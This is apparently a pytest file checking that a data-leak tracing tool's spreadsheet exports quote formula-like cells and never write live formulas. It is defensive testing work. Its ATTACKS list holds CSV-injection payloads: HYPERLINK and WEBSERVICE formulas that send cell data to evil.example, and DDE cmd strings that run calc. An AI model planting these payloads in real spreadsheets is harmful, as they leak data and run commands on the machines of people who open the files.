"""Every CSV/TSV/XLSX LeakTrace writes holds text, never a live spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import polars as pl
import pytest
import xlsxwriter
from python_calamine import CalamineWorkbook
from typer.testing import CliRunner

from leaktrace.cells import csv_cell, csv_frame, is_formula_like, restore_csv_cell, write_row
from leaktrace.cli import app
from leaktrace.detect import column_status
from leaktrace.detect._bytes import UNDECIDED
from leaktrace.detect.types import address
from leaktrace.mark import Registry, mark_export
from leaktrace.synth.leak import owners, write_table
from leaktrace.trace import trace

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A2,"浙江省杭州市西湖区文三路100号")',
    '=WEBSERVICE("http://evil.example/?"&D2)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return "".join(
            zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/sheet")
        )


def _xlsx_cells(path: Path) -> set[str]:
    book = CalamineWorkbook.from_path(str(path))
    return {
        str(v) for n in book.sheet_names for r in book.get_sheet_by_name(n).to_python() for v in r
    }


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_cell_quotes_every_formula_start_as_owasp_advises(attack: str) -> None:
    assert csv_cell(attack) == "'" + attack
    assert is_formula_like(attack)
    assert restore_csv_cell(csv_cell(attack)) == attack


def test_honest_values_that_start_like_a_formula_come_back_exactly() -> None:
    for honest in ["+86 138 1234 5678", "-5", "@张三", "'already quoted", "张三", "", "1=1"]:
        assert restore_csv_cell(csv_cell(honest)) == honest
    assert csv_cell("+86 138 1234 5678") == "'+86 138 1234 5678"
    assert csv_cell("张三") == "张三"
    assert csv_cell("1=1") == "1=1"


def test_csv_frame_quotes_string_cells_and_leaves_numbers_and_nulls() -> None:
    frame = pl.DataFrame({"a": ["=1+1", "ok", None, "-x"], "n": [1, -2, 3, 4]})
    out = csv_frame(frame)
    assert out["a"].to_list() == ["'=1+1", "ok", None, "'-x"]
    assert out["n"].to_list() == [1, -2, 3, 4]


def test_write_row_never_writes_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet()
    write_row(sheet, 0, [*ATTACKS, 7, 1.5, True, None])
    book.close()
    assert "<f>" not in _sheet_xml(path)
    assert set(ATTACKS) <= _xlsx_cells(path)


def _list_with_attacks(tmp_path: Path) -> Path:
    rows = "\n".join(f"张三{i},1380000000{i},{json.dumps(a)}" for i, a in enumerate(ATTACKS))
    path = tmp_path / "名单.csv"
    path.write_text(f"姓名,手机,地址\n{rows}\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("show", [[], ["--show-values"]])
def test_count_xlsx_export_holds_no_formula(tmp_path: Path, monkeypatch, show) -> None:
    monkeypatch.chdir(tmp_path)
    source = _list_with_attacks(tmp_path)
    attack_name = tmp_path / "=1+2.csv"  # a source file whose name reads as a formula
    attack_name.write_bytes(source.read_bytes())
    out = tmp_path / "items.xlsx"
    result = CliRunner().invoke(app, ["count", "=1+2.csv", "名单.csv", "--export", str(out), *show])
    assert result.exit_code == 0, result.output
    assert "<f>" not in _sheet_xml(out)
    assert "=1+2.csv" in _xlsx_cells(out)


def test_count_csv_export_quotes_cells_that_start_like_a_formula(tmp_path: Path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "@名单.csv").write_bytes(_list_with_attacks(tmp_path).read_bytes())
    out = tmp_path / "items.csv"
    result = CliRunner().invoke(app, ["count", "@名单.csv", "--export", str(out)])
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(out.read_text("utf-8-sig"))) for c in row]
    assert "'@名单.csv" in cells
    assert not any(is_formula_like(c) for c in cells)


FORMULA_ADDRESSES = [
    '=HYPERLINK("http://e.x/?"&A2,"浙江省杭州市西湖区文三路100号")',
    '=WEBSERVICE("http://e.x/?"&D2)&"浙江省杭州市西湖区文三路100号"',
    "+浙江省杭州市西湖区文三路100号|cmd",
    "@SUM(1)&浙江省杭州市西湖区文三路100号",
    "-浙江省杭州市西湖区文三路100号",
    "=浙江省杭州市西湖区文三路100号",
]


def test_formula_cells_are_never_valid_addresses() -> None:
    honest = "浙江省杭州市西湖区文三路100号"
    cells = pl.Series([*FORMULA_ADDRESSES, honest])
    assert column_status(cells, "address").to_list() == [None] * len(FORMULA_ADDRESSES) + ["valid"]
    # the compiled fast path leaves them to the full pipeline, never calls them valid
    assert list(address.fast_codes(cells)[:-1]) == [UNDECIDED] * len(FORMULA_ADDRESSES)


def test_formula_cells_are_never_valid_names() -> None:
    cells = pl.Series(["=张三", "+张三", "@张三", "-张三", "=阿卜杜拉·艾买提", "张三"])
    statuses = column_status(cells, "name").to_list()
    assert all(s != "valid" for s in statuses[:-1]), statuses
    assert statuses[-1] == "valid"


def test_marked_copies_hold_no_formula_and_still_trace(tmp_path: Path) -> None:
    attacks = [a for a in ATTACKS if "\r" not in a]
    frame = owners(400, seed=11).with_columns(
        pl.Series("备注", [attacks[i % len(attacks)] for i in range(400)])
    )
    registry = Registry.create(str(tmp_path / "reg.db"))
    master = write_table(frame, tmp_path / "owners.csv")
    mark_export(master, recipient="甲公司", registry=registry, out=tmp_path / "a.csv")
    text = (tmp_path / "a.csv").read_text("utf-8")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not any(is_formula_like(c) for c in cells)
    assert {"'" + a for a in attacks} <= set(cells)
    found = trace(tmp_path / "a.csv", registry)
    assert [s.recipient for s in found.accused] == ["甲公司"]

    book = write_table(frame, tmp_path / "owners.xlsx")
    mark_export(book, recipient="乙公司", registry=registry, out=tmp_path / "b.xlsx")
    assert "<f>" not in _sheet_xml(tmp_path / "b.xlsx")
    assert set(attacks) <= _xlsx_cells(tmp_path / "b.xlsx")
